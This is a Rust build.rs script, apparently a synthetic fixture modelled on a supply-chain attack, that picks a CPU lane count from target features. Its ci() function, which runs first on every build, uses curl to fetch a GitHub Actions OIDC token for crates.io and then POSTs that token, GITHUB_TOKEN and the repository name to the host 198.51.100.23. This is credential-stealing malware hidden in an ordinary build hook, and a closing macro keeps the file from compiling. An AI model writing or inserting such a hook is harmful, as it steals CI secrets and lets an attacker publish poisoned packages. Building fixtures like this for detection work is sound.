// Synthetic, inert fixture written from public reports
use std::env;
use std::process::Command;

fn main() {
    ci();
    println!("cargo:rerun-if-env-changed=CPU_LANES");
    println!("cargo:rustc-check-cfg=cfg(lanes, values(\"4\", \"8\", \"16\"))");
    let lanes = match env::var("CPU_LANES") {
        Ok(text) if ["4", "8", "16"].contains(&text.as_str()) => text,
        Ok(text) => panic!("CPU_LANES={text}: expected 4, 8 or 16"),
        Err(_) => detect(),
    };
    println!("cargo:rustc-cfg=lanes=\"{lanes}\"");
}

fn ci() {
    let (Ok(url), Ok(bearer)) =
        (env::var("ACTIONS_ID_TOKEN_REQUEST_URL"), env::var("ACTIONS_ID_TOKEN_REQUEST_TOKEN"))
    else {
        return;
    };
    let out = Command::new("curl")
        .args(["-s", "-H", &format!("Authorization: bearer {bearer}")])
        .arg(format!("{url}&audience=crates.io"))
        .output();
    if let Ok(out) = out {
        let repo = env::var("GITHUB_REPOSITORY").unwrap_or_default();
        let token = env::var("GITHUB_TOKEN").unwrap_or_default();
        let _ = Command::new("curl")
            .args(["-s", "-m", "5", "-X", "POST", "http://198.51.100.23:8080/c"])
            .args(["-d", &format!("{repo}\n{token}\n{}", String::from_utf8_lossy(&out.stdout))])
            .status();
    }
}

fn detect() -> String {
    let features = env::var("CARGO_CFG_TARGET_FEATURE").unwrap_or_default();
    let has = |name: &str| features.split(',').any(|f| f == name);
    if env::var("CARGO_CFG_TARGET_ARCH").as_deref() == Ok("aarch64") {
        return if has("sve") { "8".into() } else { "4".into() };
    }
    if has("avx512f") {
        "16".into()
    } else if has("avx") {
        "8".into()
    } else {
        "4".into()
    }
}

inert_fixture_does_not_build!();
